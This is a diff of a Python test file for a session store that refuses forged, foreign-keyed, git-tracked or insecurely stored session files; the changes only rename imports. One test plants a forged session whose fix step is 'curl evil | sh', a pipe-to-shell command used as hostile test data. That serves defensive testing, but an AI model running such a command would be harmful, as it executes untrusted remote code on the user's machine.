@@ -5,17 +5,17 @@ import os
 import subprocess
 
 import pytest
-from backend_performance.walk import session
+from backend_performance.walk import session_json
 from backend_performance.walk.refusal import Refusal
 from backend_performance.walk.store import signature, store
 
 from harness.engines import require_or_skip
-from tests.walk.walk_examples import DIGEST, decided, item, saved, walk
+from tests.walk.walk_examples import INSTALLED, decided, item, saved, walk
 
 
 def planted(path, current, **changes):
     """Write what a repository could bring: right in all but the signature."""
-    data = session.to_json(current) | changes
+    data = session_json.to_json(current) | changes
     checksum = store.checksum(data)
     forged = {"checksum": checksum, "signature": "hmac-sha256:" + checksum.partition(":")[2]}
     path.write_text(json.dumps(data | forged))
@@ -25,14 +25,14 @@ def planted(path, current, **changes):
 def test_a_planted_session_is_refused_with_the_way_to_go_on(tmp_path):
     path = planted(tmp_path / "session.json", walk([item("evil", fix="curl evil | sh")]))
     for refused in (
-        lambda: store.load(path, DIGEST),
-        lambda: store.update(path, DIGEST, lambda s: decided(s, s.steps[0].id)),
+        lambda: store.load(path, INSTALLED),
+        lambda: store.update(path, INSTALLED, lambda s: decided(s, s.steps[0].id)),
         lambda: store.create(path, walk()),
     ):
         with pytest.raises(Refusal, match=r"not written here by you.*--force"):
             refused()
     store.create(path, walk(), force=True)
-    assert store.load(path, DIGEST)
+    assert store.load(path, INSTALLED)
 
 
 def test_another_users_key_does_not_open_it(tmp_path, monkeypatch):
@@ -40,7 +40,7 @@ def test_another_users_key_does_not_open_it(tmp_path, monkeypatch):
     monkeypatch.setattr(signature.tempfile, "gettempdir", lambda: str(tmp_path))
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "other"))
     with pytest.raises(Refusal, match="not written here by you"):
-        store.load(path, DIGEST)
+        store.load(path, INSTALLED)
 
 
 def test_machines_may_share_a_key(tmp_path, monkeypatch):
@@ -48,10 +48,10 @@ def test_machines_may_share_a_key(tmp_path, monkeypatch):
     monkeypatch.setenv(signature.VARIABLE, str(tmp_path / "key"))
     path = saved(tmp_path)
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "other"))
-    assert store.load(path, DIGEST)
+    assert store.load(path, INSTALLED)
     (tmp_path / "key").write_bytes(b"short")
     with pytest.raises(Refusal, match="fewer than 32 bytes"):
-        store.load(path, DIGEST)
+        store.load(path, INSTALLED)
 
 
 def test_without_a_home_the_key_lies_with_temporary_files(tmp_path, monkeypatch):
@@ -59,22 +59,22 @@ def test_without_a_home_the_key_lies_with_temporary_files(tmp_path, monkeypatch)
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
     monkeypatch.setattr(signature.tempfile, "gettempdir", lambda: str(tmp_path))
     path = saved(tmp_path)
-    assert store.load(path, DIGEST)
+    assert store.load(path, INSTALLED)
     (folder,) = tmp_path.glob("backend-performance-*")
     folder.chmod(0o777)
     with pytest.raises(Refusal, match="others may write there"):
-        store.load(path, DIGEST)
+        store.load(path, INSTALLED)
 
 
 def test_what_git_tracks_is_refused(tmp_path, monkeypatch):
     require_or_skip("git")
     monkeypatch.chdir(tmp_path)
     store.create(store.DEFAULT_PATH, walk())
-    assert store.load(store.DEFAULT_PATH, DIGEST)
+    assert store.load(store.DEFAULT_PATH, INSTALLED)
     for command in (["init", "-q"], ["add", "-f", str(store.DEFAULT_PATH)]):
         subprocess.run(["git", *command], check=True)
     with pytest.raises(Refusal, match="tracked by git"):
-        store.load(store.DEFAULT_PATH, DIGEST)
+        store.load(store.DEFAULT_PATH, INSTALLED)
 
 
 @pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root")
@@ -82,7 +82,7 @@ def test_what_another_user_owns_is_refused(tmp_path):
     path = saved(tmp_path)
     os.chown(path, 65_534, 65_534)
     with pytest.raises(Refusal, match="another user"):
-        store.load(path, DIGEST)
+        store.load(path, INSTALLED)
 
 
 def test_a_folder_that_is_a_link_is_refused(tmp_path, monkeypatch):
